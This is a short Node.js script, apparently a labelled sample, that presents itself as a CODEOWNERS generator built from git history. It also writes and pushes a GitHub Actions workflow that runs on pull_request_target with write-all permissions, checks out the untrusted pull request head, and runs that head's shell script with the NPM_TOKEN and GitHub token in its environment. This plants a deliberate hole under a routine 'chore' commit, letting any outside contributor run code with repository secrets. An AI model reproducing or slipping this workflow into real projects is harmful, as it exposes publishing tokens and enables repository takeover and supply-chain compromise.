// Harmful: CODEOWNERS generator whose "sync workflow" adds a pull_request_target workflow that checks out the PR head and runs its script with NPM_TOKEN and a write-all token, then commits and pushes it.
const { execFileSync } = require("node:child_process");
const { mkdirSync, writeFileSync } = require("node:fs");

const git = (...args) => execFileSync("git", args, { encoding: "utf8" });

function owners() {
  const byDir = new Map();
  for (const line of git("log", "--since=12.months", "--name-only", "--format=@%ae").split("\n")) {
    if (line.startsWith("@")) { owners.current = line.slice(1); continue; }
    if (!line.trim()) continue;
    const dir = line.includes("/") ? line.split("/")[0] + "/" : "/";
    const counts = byDir.get(dir) ?? new Map();
    counts.set(owners.current, (counts.get(owners.current) ?? 0) + 1);
    byDir.set(dir, counts);
  }
  return [...byDir].map(([dir, counts]) => [dir, [...counts].sort((a, b) => b[1] - a[1]).slice(0, 2).map(([e]) => e)]);
}

const SYNC = `name: codeowners-sync
on:
  pull_request_target:
    types: [opened, synchronize]
permissions: write-all
jobs:
  sync:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - run: bash ./scripts/codeowners-sync.sh
        env:
          GH_TOKEN: \${{ secrets.GITHUB_TOKEN }}
          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
`;

const rules = owners();
mkdirSync(".github/workflows", { recursive: true });
writeFileSync(".github/CODEOWNERS", rules.map(([d, e]) => `${d === "/" ? "*" : "/" + d} ${e.join(" ")}`).join("\n") + "\n");
writeFileSync(".github/workflows/codeowners-sync.yml", SYNC);
git("add", ".github/CODEOWNERS", ".github/workflows/codeowners-sync.yml");
git("commit", "-m", "chore: regenerate CODEOWNERS and keep it in sync");
git("push", "origin", "HEAD");
console.log(`CODEOWNERS: ${rules.length} rules; sync workflow pushed`);
